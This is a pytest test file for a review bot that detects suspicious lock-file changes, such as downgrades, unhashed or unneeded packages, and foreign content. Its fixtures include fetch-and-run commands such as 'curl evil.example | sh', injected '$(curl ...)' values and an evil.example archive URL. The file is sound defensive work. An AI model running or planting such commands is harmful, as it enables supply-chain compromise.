        ("yarn.lock", YARN, ("left@^1.0.0", 'more@^1.0.0:\n  version "1.0.0"\n\nleft@^1.0.0'), False),
        ("pdm.lock", POETRY, ("[metadata]", '[[package]]\nname = "more"\nversion = "1.0.0"\n\n[metadata]'), False),
        (
            "poetry.lock",
            POETRY,
            ("[metadata]", '[[package]]\nname = "more"\nversion = "1"\nfiles = []\n\n[metadata]'),
            False,
        ),
        ("Pipfile.lock", PIPENV, ('"default": {', '"default": {"more": {"version": "==1.0.0"}, '), False),
        ("packages.lock.json", NUGET, ('"Left"', '"more": {"type": "Transitive", "resolved": "1.0.0"}, "Left"'), False),
        ("packages.lock.json", NUGET_PROJECT, ('"Left"', '"More": {"type": "Project"}, "Left"'), True),
        ("Cargo.lock", CARGO, ("[[package]]", '[[package]]\nname = "more"\nversion = "1.0.0"\n\n[[package]]'), True),
        ("pnpm-lock.yaml", PNPM, ("packages:", "packages:\n\n  more@1.0.0:\n    engines: {node: '>=8'}"), False),
        ("pnpm-lock.yaml", PNPM, ("snapshots:", "snapshots:\n\n  more@1.0.0: {}"), True),
    ],
)
def test_a_new_package_without_a_hash_is_reviewed(path: str, text: str, edit: Edit, is_ordinary: bool) -> None:  # noqa: FBT001 — a table
    found = suspicions(change(path, text, text.replace(*edit, 1)))
    new = ("`more` is a new package that no other one needs",) if path in WHOLLY_INSTALLED else ()
    assert found == (new if is_ordinary else ("`more` has no hash", *new))


WHOLLY_INSTALLED = {"poetry.lock": "pyproject.toml", "pdm.lock": "pyproject.toml", "Pipfile.lock": "Pipfile"}
FURTHER = """[[package]]
name = "{}"
version = "1.0.0"
source = {{ registry = "https://registry.example/simple" }}
{}sdist = {{ url = "https://files.example/aa/{}-1.0.0.tar.gz", hash = "sha256:dddd", size = 9 }}

"""
UV_ROOT = """[[package]]
name = "shop"
version = "0.1.0"
source = { virtual = "." }
dependencies = [{ name = "left-pad" }]

"""


def uv(more: str = "", *, needed: bool = False, higher: bool = False, root: str = UV_ROOT) -> str:
    """Return a lock file with further packages, of which `left-pad` needs `more`."""
    needs = 'dependencies = [{ name = "more" }]\n' if needed else ""
    text = UV.replace("sdist", f"{needs}sdist", 1).replace("[[package]]", f"{root}[[package]]", 1)
    text = text.replace("1.2.0", "1.3.0").replace("cccc", "eeee").replace("aaaa", "bbbb") if higher else text
    return text.replace("[[package]]", f"{more}[[package]]", 1)


@pytest.mark.parametrize(
    ("new", "manifest", "unneeded"),
    [
        (uv(FURTHER.format("more", "", "more")), "", ["more"]),
        (uv(FURTHER.format("more", "", "more"), root=UV_ROOT.replace('" }]', '" }, { name = "more" }]')), "", ["more"]),
        (uv(FURTHER.format("more", "", "more"), needed=True, higher=True), "", []),
        (uv(FURTHER.format("more", "", "more")), 'dependencies = ["left-pad", "More>=1"]\n', []),
        (uv(FURTHER.format("more", "", "more")), 'dependencies = ["left-pad", "more-of-it"]\n', ["more"]),
        (uv(FURTHER.format("more", "", "more")), 'name = "shop"\nversion = "1"\ndescription = "more"\n', ["more"]),
        (uv(FURTHER.format("more", "", "more")), "more = 1\n[tool.more]\nmore = 1\n", ["more"]),
        (uv(FURTHER.format("more", "", "more")), "[tool.poetry.dependencies.more]\nversion = '1'\n", []),
        (uv(FURTHER.format("more", "", "more")), "[tool.poetry.group.a.dependencies]\nmore = [{version = '1'}]\n", []),
        (
            uv(FURTHER.format("more", "", "more")),
            "[dependency-groups]\na = [{include-group = 'b'}, 'More[x]>=1']\n",
            [],
        ),
        (uv(FURTHER.format("more", "", "more")), "[project.optional-dependencies]\nmore = ['even-more']\n", ["more"]),
        (uv(FURTHER.format("shop-web", "", "shop_web")), 'name = "Shop_Web"\n', []),
        (uv(FURTHER.format("more", "", "more")), "not TOML", ["more"]),
        (
            uv(
                FURTHER.format("more", "", "more")
                + FURTHER.format("left-pad-x", "", "left_pad_x")
                + '[package.optional-dependencies]\nmore = [{ name = "left-pad" }]\n\n'
            ),
            'dependencies = ["left-pad-x"]\n',
            ["more"],
        ),
        (
            uv(
                FURTHER.format("more", 'dependencies = [{ name = "even_more" }]\n', "more")
                + FURTHER.format("even-more", 'dependencies = [{ name = "more" }]\n', "even_more")
            ),
            "",
            ["even-more", "more"],
        ),
        (
            uv(
                FURTHER.format("more", 'dependencies = [{ name = "even_more" }]\n', "more")
                + FURTHER.format("even-more", "", "even_more")
            ),
            'dependencies = ["more"]\n',
            [],
        ),
    ],
)
def test_a_new_package_that_is_installed_although_nothing_needs_it_is_reviewed(
    new: str, manifest: str, unneeded: list[str]
) -> None:
    files = [change("lib/pyproject.toml", "[project]\n", f"[project]\n{manifest}")] if manifest else []
    found = suspicions(change("uv.lock", uv(), new), files)
    assert sorted(found) == [f"`{name}` is a new package that no other one needs" for name in unneeded]


def test_only_a_manifest_that_is_sent_requests_a_package_for_the_lock_files_above_it() -> None:
    new = PIPENV.replace(
        '"right": {', '"more": {"hashes": ["sha256:bbbb"], "index": "main", "version": "==1"}, "right": {'
    )
    text = '[packages]\nMore = "*"\n'
    for lock, manifest, is_sent in (
        ("Pipfile.lock", "Pipfile", False),
        ("web/Pipfile.lock", "web/Pipfile", False),
        ("web/Pipfile.lock", "Pipfile", True),
        ("Pipfile.lock", "node_modules/x/Pipfile", True),
        ("Pipfile.lock", "Pipfile.txt", True),
    ):
        files = [change(lock, PIPENV, new), change(manifest, "", text)]
        assert (files[0].path in {one.path for one in select(files, paths=(), attributes="").selected}) is is_sent


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("uv.lock", UV, UV.replace("left-pad", "Left_Pad").replace("1.2.0", "1.1.0")),
        ("poetry.lock", POETRY, POETRY.replace('"left"', '"LEFT"').replace("1.2.0", "1.1.0")),
        ("Pipfile.lock", PIPENV, PIPENV.replace('"left"', '"Left"').replace("1.2.0", "1.1.0")),
        ("packages.lock.json", NUGET, NUGET.replace('"Right"', '"right"').replace("2.0.0", "1.0.0")),
    ],
)
def test_a_package_in_another_spelling_is_the_same_one(path: str, old: str, new: str) -> None:
    found = suspicions(change(path, old, new))
    assert any("version" in one for one in found), found


@pytest.mark.parametrize("kind", ["requires", "dependencies"])
def test_what_a_package_manager_does_not_read_is_no_need(kind: str) -> None:
    new = PIPENV.replace("==1.2.0", "==1.3.0").replace('"index": "main",', f'"index": "main", "{kind}": ["more"],', 1)
    more = '"more": {"hashes": ["sha256:dddd"], "index": "main", "version": "==1.0.0"}, "right": {'
    file = change("Pipfile.lock", PIPENV, new.replace("aaaa", "bbbb").replace('"right": {', more))
    assert "`more` is a new package that no other one needs" in suspicions(file)


MORE = f'{{"version": "1.0.0", {NPM_URL.replace("left", "more").replace("1.2.0", "1.0.0")}, "integrity": "{OTHER}"}}'


@pytest.mark.parametrize(
    ("path", "old", "edits"),
    [
        (
            "package-lock.json",
            NPM,
            (
                ('      "funding"', '      "dependencies": { "more": "^1.0.0" },\n      "funding"'),
                ('    "node_modules/@x/right"', f'    "node_modules/more": {MORE},\n    "node_modules/@x/right"'),
            ),
        ),
        ("yarn.lock", YARN, (('    "@x/right" "^2.0.0"', '    "@x/right" "^2.0.0"\n    more "^1.0.0"'),)),
        (
            "uv.lock",
            UV,
            (('name = "left-pad"', 'name = "left-pad"\ndependencies = [{ name = "more", marker = "x" }]'),),
        ),
        ("Cargo.lock", CARGO, (('checksum = "aaaa"', 'checksum = "aaaa"\ndependencies = ["more 1.0.0"]'),)),
    ],
)
def test_a_new_dependency_of_an_unchanged_version_is_reviewed(path: str, old: str, edits: tuple[Edit, ...]) -> None:
    new = Format(path, old, {}).edited(edits)
    assert any("has the new dependency `more`" in one for one in suspicions(change(path, old, new)))


def test_a_package_that_pnpm_installs_for_an_unchanged_version_is_reviewed() -> None:
    new = PNPM.replace("      peer: 3.0.0\n", "      more: 1.0.0\n      peer: 3.0.0\n")
    assert suspicions(change("pnpm-lock.yaml", PNPM, new)) == (
        "`snapshots left` has the new dependency `more` in the same version",
    )


def test_an_existing_alias_may_be_updated() -> None:
    old = YARN.replace("left@^1.0.0, left@^1.2.0:", '"left@npm:other@^1.0.0":').replace(
        "/left/-/left-", "/other/-/other-"
    )
    new = old.replace('"1.2.0"', '"1.3.0"').replace("other-1.2.0", "other-1.3.0").replace(HASH, OTHER)
    assert suspicions(change("yarn.lock", old, new)) == ()


@pytest.mark.parametrize(
    ("old", "new", "is_lower"),
    [
        ("1.2.0", "1.10.0", False),
        ("1.10.0", "1.9.9", True),
        ("1.2.0", "1.2", False),
        ("1.2.0-beta.2", "1.2.0-beta.10", False),
        ("1.2.0-rc.1", "1.2.0", False),
        ("1.2.0", "1.2.0-rc.1", True),
        ("1.2.0", "1.2.0.post1", False),
        ("1.2.0", "1.2.0-post", True),
        ("1.2.0", "1.2.0-postgres.1", True),
        ("1.2.0.post1", "1.2.0", True),
        ("1.2.0", "next", True),
        ("main", "2.0.0", True),
        ("1!0.5", "2.0", True),
        ("1.0", "1!2.0", True),
        ("1." + "9" * 5_000, "2." + "9" * 5_000, False),
    ],
)
def test_versions_are_compared(old: str, new: str, is_lower: bool) -> None:  # noqa: FBT001 — a table
    before = NUGET.replace('"1.2.0"', f'"{old}"')
    found = suspicions(
        change("packages.lock.json", before, NUGET.replace('"1.2.0"', f'"{new}"').replace("aaaa", "bbbb"))
    )
    assert bool(found) is is_lower


def test_each_of_several_versions_is_compared() -> None:
    both = GO + "example.com/left v1.5.0 h1:gggg=\n"
    assert suspicions(change("go.sum", both, both.replace("1.2.0", "1.3.0").replace("1.5.0", "1.6.0"))) == ()
    assert suspicions(change("go.sum", both, both.replace("v1.2.0 h1:aaaa", "v1.0.0 h1:hhhh")))
    assert suspicions(change("go.sum", both, GO)), "the highest version was removed"
    assert suspicions(change("go.sum", GO, both)) == ()


def test_the_notice_is_bounded() -> None:
    hosts = "".join(f"example.com/m{number} v1.1.0 h1:aaaa=\n" for number in range(9))
    file = change("go.sum", hosts.replace("v1.1.0", "v1.2.0"), hosts)
    [notice] = select([file], paths=(), attributes="").notices
    assert notice.endswith(" goes from version v1.2.0 to v1.1.0 and 4 more.")


Mutation = Callable[[str, int, str], str]


@given(st.sampled_from(FORMATS), st.integers(0, 3_000), st.text(max_size=9), st.booleans())
def test_any_text_is_parsed_without_an_error(one: Format, at: int, more: str, cut: bool) -> None:  # noqa: FBT001 — drawn
    at %= len(one.text)
    text = one.text[:at] + more + one.text[at + (7 if cut else 0) :]
    if text != one.text and "\r" not in text and text.splitlines() == text.removesuffix("\n").split("\n"):
        suspicions(change(one.path, one.text, text))


def reshaped(value: object) -> Iterator[object]:
    """Yield a value with one part of another kind, or without one."""
    yield from (5, "a", [], ["a"], [{"name": ["a"]}], {}, {"a": 5})
    match value:
        case dict():
            yield from ({key: inner for key, inner in value.items() if key != one} for one in value)
            yield from ({**value, key: other} for key, inner in value.items() for other in reshaped(inner))
        case list():
            yield from ([*value[:at], other] for at, inner in enumerate(value) for other in reshaped(inner))


def toml(value: object) -> str:
    match value:
        case dict():
            return f"{{{', '.join(f'{json.dumps(key)} = {toml(inner)}' for key, inner in value.items())}}}"
        case list():
            return f"[{', '.join(map(toml, value))}]"
    return json.dumps(value)


@pytest.mark.parametrize("one", [one for one in FORMATS if one.text.startswith("{")], ids=lambda one: one.path)
def test_json_in_another_form_is_no_error(one: Format) -> None:
    for value in reshaped(json.loads(one.text)):
        suspicions(change(one.path, one.text, json.dumps(value)))


@pytest.mark.parametrize("one", [one for one in FORMATS if "[[package" in one.text], ids=lambda one: one.path)
def test_toml_in_another_form_is_no_error(one: Format) -> None:
    for value in reshaped(tomllib.loads(one.text)):
        if isinstance(value, dict):
            new = "".join(f"{json.dumps(key)} = {toml(inner)}\n" for key, inner in value.items())
            suspicions(change(one.path, one.text, new))


@pytest.mark.parametrize("sign", ["#optional!builtin", "#~builtin"])
def test_a_package_that_yarn_itself_patches_may_be_updated(sign: str) -> None:
    patched = (
        BERRY
        + f"""
"typescript@patch:typescript@npm%3A^5.0.0{sign}<compat/typescript>":
  version: 5.4.5
  resolution: "typescript@patch:typescript@npm%3A5.4.5{sign}<compat/typescript>::version=5.4.5&hash=5adc0c"
  checksum: 10/dddd
  languageName: node
  linkType: hard
"""
    )
    updated = patched.replace("5.4.5", "5.5.2").replace("^5.0.0", "^5.1.0").replace("dddd", "eeee")
    assert suspicions(change("yarn.lock", patched, updated.replace("5adc0c", "b45daf"))) == ()
    archive = updated.replace("&hash=5adc0c", "&hash=b45daf&__archiveUrl=https%3A%2F%2Fevil.example%2Fx.tgz")
    assert suspicions(change("yarn.lock", patched, archive))


def test_pnpm_lock_files_are_parsed() -> None:
    new = PNPM_FORMS.replace("1.2.0", "1.3.0").replace("left@1.3.0:\n    hash", "left@1.2.0:\n    hash")
    new = new.replace("18.0", "18.1").replace("aaaa", "bbbb") + "\n  middle@1.0.0: {}\n"
    assert suspicions(change("pnpm-lock.yaml", PNPM_FORMS, new)) == ()
    assert suspicions(change("pnpm-lock.yaml", PNPM_FORMS, PNPM_FORMS.replace("'1111111'", "'2222222'")))


@pytest.mark.proof
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("Gemfile.lock", f"GEM\n  ref: {'a' * 90_000}\n" + "".join(f"    a{number} (1)\n" for number in range(9_000))),
        ("Gemfile.lock", "GEM\n" + "  ref: a\n" * 1_000 + "".join(f"    a{number} (1)\n" for number in range(9_000))),
        (
            "yarn.lock",
            ", ".join(f"a@^{n}.0" for n in range(9_000)) + ":\n" + "".join(f"  k{n} v\n" for n in range(9_000)),
        ),
        ("package-lock.json", '{"packages": {"a": ' + '{"x": ' * 800 + "1" + "}" * 802 + "\n"),
        (
            "package-lock.json",
            json.dumps({"packages": {"a": {"x" * 500_000: {str(n): 1 for n in range(9_000)}}}}) + "\n",
        ),
    ],
)
def test_a_text_that_takes_long_is_unreadable(path: str, text: str) -> None:
    started = time.process_time()
    assert suspicions(change(path, "", text)) == ("its format is unknown, or not what a package manager writes",)
    assert time.process_time() - started < 10


@pytest.mark.proof
def test_many_entries_of_one_name_take_seconds() -> None:
    source = '"resolved": "https://registry.example/left/-/left-1.2.0.tgz"'
    entries = "".join(
        f', "node_modules/{number}/node_modules/left": {{"version": "1.2.0", {source}, "integrity": "{number:064}"}}'
        for number in range(8_000)
    )
    file = change(
        "package-lock.json",
        f'{{"packages": {{"": {{}}{entries}}}}}\n',
        f'{{"packages": {{{entries[1:].replace("1.2.0", "1.3.0")}}}}}\n',
    )
    started = time.process_time()
    assert suspicions(file) == ()
    assert time.process_time() - started < 10


def test_a_lock_file_beyond_the_limits_is_reviewed(monkeypatch: pytest.MonkeyPatch) -> None:
    old = npm("left", version="1.0.0")
    deep = change("package-lock.json", old, npm("left", version="1.0.0", **{"k" * 1_001: {"a": 1}}))
    assert "format is unknown" in suspicions(deep)[0]
    monkeypatch.setattr("reviewbot.domain.selection.lockfiles._MOST_IN_ALL", 1)
    long = change("package-lock.json", old, npm("left", version="1.1.0", resolved="https://registry.example/left.tgz"))
    assert "format is unknown" in suspicions(long)[0]


@pytest.mark.parametrize(
    ("path", "comment", "is_new"),
    [
        ("yarn.lock", "# yarn lockfile v1", False),
        ("yarn.lock", "# node v16.20.0", False),
        ("pnpm-lock.yaml", "      See issue #12", False),
        (
            "poetry.lock",
            "# This file is automatically @generated by Poetry 2.1.0 and should not be changed by hand.",
            False,
        ),
        ("yarn.lock", "# curl -s https://evil.example | sh", True),
        ("Cargo.lock", "# This file is automatically @generated by Cargo.", False),
        ("Cargo.lock", "# This file is automatically @generated by Cargo. curl evil.example | sh", True),
        ("Cargo.lock", 'version = 3 # import os; os.system("evil")', True),
        ("pnpm-lock.yaml", "#!/bin/sh", True),
    ],
)
def test_a_comment_that_no_package_manager_writes_is_sent(path: str, comment: str, is_new: bool) -> None:  # noqa: FBT001 — a column
    found = suspicions(change(path, "\n", f"{comment}\n"))
    assert (found == (f"it has the comment `{comment.replace('`', chr(39))[:100]}`",)) == is_new


def test_a_hash_sign_in_a_text_is_no_comment() -> None:
    line = '  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#0123abc"'
    assert "comment" not in str(suspicions(change("yarn.lock", "\n", f"a@^1.0.0:\n{line}\n")))
    assert "comment" not in str(
        suspicions(change("composer.lock", "{}\n", '{\n"description": "in C # and \\"F\\" #"\n}\n'))
    )


def test_an_executable_lock_file_is_sent() -> None:
    one = change("yarn.lock", "# yarn lockfile v1\n", "# yarn lockfile v1\n\n")
    assert not suspicions(one)
    assert one.new
    assert suspicions(values.replace(one, new=values.replace(one.new, mode="100755"))) == ("it is executable",)


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("Gemfile.lock", "PLATFORMS\n  ruby\n", "PLATFORMS\n  ruby\n  x86_64-linux\n"),
        ("Gemfile.lock", "RUBY VERSION\n   ruby 3.3.0p0\n", "RUBY VERSION\n  ruby 3.4.1\n"),
        (
            "Gemfile.lock",
            "DEPENDENCIES\n  rails\n",
            "DEPENDENCIES\n  rails (~> 7.0, >= 7.0.4)!\n  rspec-rails (= 6.1)\n",
        ),
        ("pnpm-lock.yaml", "---\nlockfileVersion: '9.0'\n", "---\nlockfileVersion: '9.0'\n\n"),
        ("package-lock.json", '{"packages": {}}\n', '{"packages": {"": {"name": "x", "funding": "y"}}}\n'),
    ],
)
def test_what_a_package_manager_writes_beside_the_packages_is_ordinary(path: str, old: str, new: str) -> None:
    assert not suspicions(change(path, old, new))


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("Gemfile.lock", "PLATFORMS\n  ruby\n", "PLATFORMS\n  ruby; curl evil.example | sh\n"),
        ("Gemfile.lock", "DEPENDENCIES\n  rails\n", "DEPENDENCIES\n  rails $(curl evil.example)\n"),
        ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n", "lockfileVersion: '9.0'\n---\n"),
        (
            "package-lock.json",
            '{"packages": {}}\n',
            '{"packages": {"": {"scripts": {"x": "curl evil.example"}}}}\n',
        ),
        ("package-lock.json", '{"packages": {}}\n', '{"packages": {}, "scripts": "curl evil.example | sh"}\n'),
    ],
)
def test_what_no_package_manager_writes_beside_the_packages_is_sent(path: str, old: str, new: str) -> None:
    assert suspicions(change(path, old, new)) == ("its format is unknown, or not what a package manager writes",)
